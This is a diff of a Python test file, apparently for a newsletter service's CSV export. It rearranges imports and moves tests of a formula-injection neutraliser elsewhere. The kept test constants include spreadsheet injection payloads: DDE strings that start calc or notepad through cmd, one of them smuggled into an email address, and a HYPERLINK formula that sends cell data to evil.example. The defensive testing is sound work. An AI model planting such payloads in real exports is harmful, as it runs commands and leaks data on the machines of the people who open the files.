@@ -14,30 +14,29 @@ from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
-from hypothesis import given
-from hypothesis import strategies as st
 from litestar.testing import AsyncTestClient
 from sqlalchemy.ext.asyncio import AsyncSession
 
 from service.app import create_app
-from service.core.csvsafe import neutralise, restore
 from service.db import create_engine, create_session_factory
 from service.delivery import service as delivery
 from service.settings import Settings
 from subscribers import service as subs
 from tests.conftest import DatabaseTemplates, make_settings
-from tests.delivery.helpers import add_subscribers, drain, make_issue
+from tests.core.test_csvsafe import STARTS
+from tests.delivery.helpers import drain
 from tests.editor.helpers import login, make_editor
+from tests.factories import add_subscribers, make_issue
 from tests.ops.helpers import arun
+from tests.pages import Client
 from tests.smtp import SmtpServer
-from tests.subscribers.helpers import Client, confirm_latest, signup
+from tests.subscribers.helpers import confirm_latest, signup
 
 DDE = "=cmd|' /C calc'!A0"
 LINK = '@HYPERLINK("https://evil.example/?d="&A1,"Klicka här")'
 SUM = "+SUM(1+1)*cmd|' /C notepad'!A0"
 MINUS = "-2+3+cmd|' /C calc'!A0"
 ADDRESS = "=cmd|'/ccalc'!a0@exempel.se"  # a valid address (every character is atext)
-STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
 def _no_formula(rows: list[list[str]]) -> None:
@@ -189,38 +188,3 @@ async def test_delivery_csv_neutralises_the_addresses_that_did_not_get_it(
     _no_formula(rows)
     assert sorted(r[0] for r in rows[1:]) == ["'-2+0@exempel.se", "'" + ADDRESS]
     assert all("Ingen sådan användare" in r[2] for r in rows[1:])
-
-
-@pytest.mark.parametrize(
-    ("value", "cell"),
-    [
-        ("=1+1", "'=1+1"),
-        ("+46 35 13 00 00", "'+46 35 13 00 00"),
-        ("-1", "'-1"),
-        ("@SUM(A1)", "'@SUM(A1)"),
-        ("\t=1+1", "'\t=1+1"),
-        ("\r=1+1", "'\r=1+1"),
-        ("  =1+1", "'  =1+1"),
-        ("\u00a0@x", "'\u00a0@x"),
-        ("\uff1d1+1", "'\uff1d1+1"),  # FULLWIDTH EQUALS SIGN
-        ("'=1+1", "''=1+1"),  # a quote in front of a formula keeps its own quote
-        ("'hej", "'hej"),
-        ("Åsa Öberg", "Åsa Öberg"),
-        ("a=1", "a=1"),
-        ("", ""),
-        (-1, -1),
-        (3, 3),
-    ],
-)
-def test_neutralise(value: object, cell: object) -> None:
-    assert neutralise(value) == cell
-    if isinstance(value, str):
-        assert restore(str(cell)) == value
-
-
-@given(st.text())
-def test_restore_undoes_neutralise_and_no_cell_starts_a_formula(value: str) -> None:
-    cell = neutralise(value)
-    assert isinstance(cell, str)
-    assert restore(cell) == value
-    assert not cell.startswith(STARTS) and not cell.lstrip().startswith(STARTS)
